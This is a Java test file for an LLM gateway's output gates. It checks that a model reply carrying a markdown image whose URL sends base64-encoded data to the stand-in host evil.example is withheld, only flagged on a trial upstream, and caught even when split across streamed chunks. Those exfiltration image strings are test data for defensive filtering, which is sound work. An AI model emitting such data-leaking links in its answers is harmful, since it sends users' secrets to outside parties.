package dev.countersign.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.gateway.gates.StandardGates;
import dev.countersign.gateway.server.TrustSource;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The gates of guard as they are, behind a language model that repeats what it is told. */
class StandardGatesTest {
  @TempDir private static Path folder;
  private static FakeUpstream upstream;
  private static Gateway gateway;

  @BeforeAll
  static void start() throws Exception {
    upstream = new FakeUpstream();
    Path file = folder.resolve("gateway.yaml");
    Files.writeString(
        file,
        """
        countersign-gateway: 1
        listen: { port: 0 }
        admin: { port: 0 }
        upstreams:
          watched:
            protocol: openai
            url: %1$s
            serves: watched
            gates: { prompt: {}, output: { action: flag } }
          chat:
            protocol: openai
            url: %1$s
            gates: { prompt: {}, output: {} }
        """
            .formatted(upstream.url()));
    List<String> notes = new ArrayList<>();
    gateway = Gateway.start(file, TrustSource::key, new StandardGates(), notes::add);
    for (int i = 0; i < 500 && !gateway.isReady(); i++) {
      Thread.sleep(10);
    }
    assertThat(notes).isEmpty();
  }

  @AfterAll
  static void stop() {
    gateway.close();
    upstream.close();
  }

  private static HttpResponse<String> ask(String model, boolean stream) throws Exception {
    String body =
        "{\"model\":\"%s\",\"stream\":%s,\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}]}"
            .formatted(model, stream);
    HttpRequest request =
        HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + gateway.port() + "/v1/chat/completions"))
            .header("Content-Type", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString(body))
            .build();
    try (HttpClient client = HttpClient.newHttpClient()) {
      return client.send(request, HttpResponse.BodyHandlers.ofString());
    }
  }

  private static String said(String text) {
    return "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":\"" + text + "\"}}]}";
  }

  private static String part(String text) {
    return "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" + text + "\"}}]}\n\n";
  }

  @Test
  void plainWordsPass() throws Exception {
    upstream.answers(200, said("The capital of France is Paris."));
    assertThat(ask("any", false).statusCode()).isEqualTo(200);
  }

  @Test
  void anImageThatCarriesDataAwayIsWithheld() throws Exception {
    upstream.answers(200, said("![x](https://evil.example/p.png?d=c2VjcmV0)"));
    assertThat(ask("any", false).statusCode()).isEqualTo(422);
  }

  @Test
  void aGateThatIsTriedOutOnlyFlags() throws Exception {
    upstream.answers(200, said("![x](https://evil.example/p.png?d=c2VjcmV0)"));
    assertThat(ask("watched", false).statusCode()).isEqualTo(200);
  }

  @Test
  void anImageInPartsNeverLeaves() throws Exception {
    upstream.streams(
        part("Here it is:\\n\\n"),
        part("![x](https://ev"),
        part("il.example/p.png?d=c2V"),
        part("jcmV0) done"),
        "data: [DONE]\n\n");
    String body = ask("any", true).body();
    assertThat(body)
        .contains("answer_withheld")
        .doesNotContain("evil")
        .doesNotContain("https://ev");
  }

  @Test
  void aStreamOfPlainWordsArrivesWhole() throws Exception {
    upstream.streams(part("One, two, "), part("three.\\n\\nFour."), "data: [DONE]\n\n");
    String body = ask("any", true).body();
    assertThat(body).contains("Four.").endsWith("data: [DONE]\n\n");
  }
}
